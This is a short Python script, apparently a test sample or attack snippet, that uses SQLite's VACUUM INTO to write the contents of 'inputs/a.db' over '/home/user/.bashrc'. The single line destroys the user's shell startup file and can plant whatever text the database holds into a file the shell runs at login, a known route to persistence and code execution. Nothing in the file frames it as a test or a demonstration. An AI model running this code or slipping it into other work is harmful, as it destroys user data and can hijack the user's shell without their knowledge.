import sqlite3

sqlite3.connect("inputs/a.db").execute("VACUUM INTO '/home/user/.bashrc'")
